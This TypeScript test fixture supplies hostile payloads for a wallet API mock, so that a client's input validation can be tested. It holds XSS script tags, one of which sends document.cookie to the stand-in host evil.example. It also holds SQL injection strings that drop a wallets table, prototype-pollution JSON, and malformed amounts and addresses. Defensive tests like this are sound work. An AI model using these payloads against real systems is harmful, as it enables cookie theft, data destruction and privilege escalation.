// The hostile drill's payloads: what an attacker who reaches an upstream system (a wallet name typed
// by a user, a chain indexer, a compromised relay) could make the API carry. Each is valid JSON, so
// the mock serves it as the real API would pass it through; the client's input validation (seed:
// "Input Validation") is what is tested. Deterministic: the same list every run.
import type { Wallet } from './wallet-store.ts'

/** JSON text spliced verbatim into a body: integers beyond 2^53 that JSON.stringify cannot write. */
const raw = (text: string): unknown => (JSON as unknown as { rawJSON: (t: string) => unknown }).rawJSON(text)

/** An object parsed from JSON text, so `__proto__` is an own key that JSON.stringify writes back. */
const parsed = (text: string): unknown => JSON.parse(text)

const ONE_MB = 'A'.repeat(1024 * 1024)
const LONE_SURROGATES = 'wallet \uD800 half \uDFFF pair \uDBFF'

export interface HostileEvent {
  /** Which attack it carries, for the report. */
  kind: string
  subject: string
  data: unknown
}

/** The event stream's hostile events, in publication order; benign events follow from the generator. */
export function hostileEvents (): HostileEvent[] {
  return [
    { kind: 'script-tag', subject: 'wallet.created', data: { id: 'wal_hostile000000001', name: '<script>alert(document.cookie)</script>', type: 'mpc', chain: 'ethereum' } },
    { kind: 'sql', subject: 'wallet.updated', data: { id: 'wal_hostile000000002', name: "x'); DROP TABLE wallets; --" } },
    { kind: 'one-megabyte-string', subject: 'wallet.updated', data: { id: 'wal_hostile000000003', name: ONE_MB } },
    { kind: 'beyond-2^53', subject: 'ledger.entry.created', data: { id: 'led_hostile00000001', walletId: 'wal_hostile000000001', direction: 'credit', amount: raw('9007199254740993'), sequence: raw('123456789012345678901234567890'), token: 'USDC' } },
    { kind: 'negative-amount', subject: 'token.transfer.confirmed', data: { id: 'tx_hostile000000001', walletId: 'wal_hostile000000001', status: 'confirmed', amount: '-1000000.00', token: 'USDC' } },
    { kind: 'nan-like-amount', subject: 'token.transfer.pending', data: { id: 'tx_hostile000000002', walletId: 'wal_hostile000000001', status: 'pending', amount: 'NaN', fee: 'Infinity', token: 'ETH' } },
    { kind: 'exponent-amount', subject: 'token.transfer.failed', data: { id: 'tx_hostile000000003', walletId: 'wal_hostile000000001', status: 'failed', amount: '1e309', token: 'ETH' } },
    { kind: 'invalid-address', subject: 'wallet.created', data: { id: 'wal_hostile000000004', name: 'bad address', type: 'single', chain: 'ethereum', address: '0xZZZZnot-hex' } },
    { kind: 'unknown-event-type', subject: 'wallet.teleported', data: { id: 'wal_hostile000000005', to: 'mars' } },
    { kind: 'proto-keys', subject: 'wallet.updated', data: parsed('{"id":"wal_hostile000000006","__proto__":{"isAdmin":true,"polluted":true},"constructor":{"prototype":{"polluted":true}},"name":"proto"}') },
    { kind: 'invalid-utf16', subject: 'wallet.updated', data: { id: 'wal_hostile000000007', name: LONE_SURROGATES } },
    { kind: 'wrong-types', subject: 'ledger.entry.created', data: { id: 12345, walletId: null, direction: ['credit'], amount: { $gt: '' }, token: true } }
  ]
}

export interface HostileWallet {
  kind: string
  /** What the store lists by (a chain it knows, so chain filters still work). */
  wallet: Wallet
  /** The JSON clients receive. */
  json: string
}

/** Wallets for the list: the fields of contract 3.1, with hostile values. */
export function hostileWallets (createdAt: string): HostileWallet[] {
  const w = (kind: string, n: number, fields: { name: string, chain?: Wallet['chain'], address?: string, type?: string }, extra = ''): HostileWallet => {
    const wallet: Wallet = { id: `wal_hostile1000000${n}`, name: fields.name, type: 'mpc', chain: fields.chain ?? 'ethereum', address: fields.address ?? '0x0000000000000000000000000000000000000000', createdAt }
    const body = JSON.stringify({ ...wallet, type: fields.type ?? wallet.type })
    return { kind, wallet, json: extra === '' ? body : body.slice(0, -1) + ',' + extra + '}' }
  }
  return [
    w('script-tag', 1, { name: '<img src=x onerror=alert(1)><script>fetch("//evil.example/"+document.cookie)</script>' }),
    w('sql', 2, { name: "Robert'); DROP TABLE wallets;-- " }),
    w('one-megabyte-string', 3, { name: ONE_MB }),
    w('invalid-address-ethereum', 4, { name: 'eth', chain: 'ethereum', address: '0xnot-an-address' }),
    w('invalid-address-solana', 5, { name: 'sol', chain: 'solana', address: '0x0000000000000000000000000000000000000000' }),
    w('invalid-address-bitcoin', 6, { name: 'btc', chain: 'bitcoin', address: 'bc1' + 'O'.repeat(60) }),
    w('amounts', 7, { name: 'balances' }, '"balance":"-42.00","available":"NaN","nonce":18446744073709551617'),
    w('proto-keys', 8, { name: 'proto' }, '"__proto__":{"isAdmin":true},"constructor":{"prototype":{"polluted":true}}'),
    w('invalid-utf16', 9, { name: LONE_SURROGATES }),
    w('unknown-type', 10, { name: 'unknown type', type: 'quantum' })
  ]
}
